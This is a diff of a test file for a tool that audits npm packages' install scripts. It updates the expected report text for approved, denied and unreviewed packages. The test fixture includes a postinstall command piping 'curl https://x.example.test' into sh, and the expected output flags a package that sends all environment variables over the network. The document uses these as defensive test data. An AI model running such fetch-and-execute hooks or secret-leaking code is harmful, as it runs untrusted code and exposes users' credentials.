@@ -61,8 +61,8 @@ describe('the list', () => {
       out: `Package  Version  Decision    On install  Script
 aaa      1.0.0    unreviewed  skipped     postinstall: curl
                                           https://x.example.test | sh
-bbb      1.0.0    denied      skipped     text unknown (lockfile)
-ccc      1.0.0    approved    runs        text unknown (lockfile)
+bbb      1.0.0    denied      skipped     script text unknown (lockfile)
+ccc      1.0.0    approved    runs        script text unknown (lockfile)
 
 Suspicious: aaa 1.0.0 downloads and runs remote code: curl … | sh.
 3 packages with install scripts: 1 unreviewed, 1 approved, 1 denied. Unreviewed:
@@ -84,7 +84,7 @@ npm 12 will skip it. Approve or deny it in allowScripts.
     const { out } = await runCommand(scripts, folder);
     assert.match(
       out,
-      /^File: aaa 1\.0\.0: install\.js opens connections \(line 1\), reads variables\n *\(lib\/env\.js:2\)\.\nSuspicious: aaa 1\.0\.0 sends data of this machine over the network: all\n *environment variables, in lib\/env\.js:2\.\nFile: bbb 1\.0\.0: c\.js has neither connections nor programs in its text\.$/m,
+      /^File: aaa 1\.0\.0: install\.js opens connections \(line 1\), reads environment\n *variables \(lib\/env\.js:2\)\.\nSuspicious: aaa 1\.0\.0 sends data of this machine over the network: all\n *environment variables, in lib\/env\.js:2\.\nFile: bbb 1\.0\.0: c\.js has neither connections nor programs in its text\.$/m,
     );
     const { scripts: rows } = JSON.parse((await runCommand(scripts, folder, '--format', 'json')).out);
     const script = 'postinstall';
